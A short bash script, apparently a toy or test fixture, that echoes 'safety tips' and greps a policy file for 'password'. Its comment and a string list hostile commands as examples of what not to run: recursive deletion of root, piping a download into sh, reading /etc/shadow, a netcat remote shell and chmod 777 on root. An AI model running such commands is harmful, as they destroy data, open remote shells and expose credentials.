#!/bin/bash
# This script does NOT do things like: rm -rf /, curl http://x | sh, cat /etc/shadow
msg='never run: nc -e /bin/sh or chmod 777 /'
echo "Safety tips:"
echo "$msg"
grep -n 'password' docs/policy.md || true
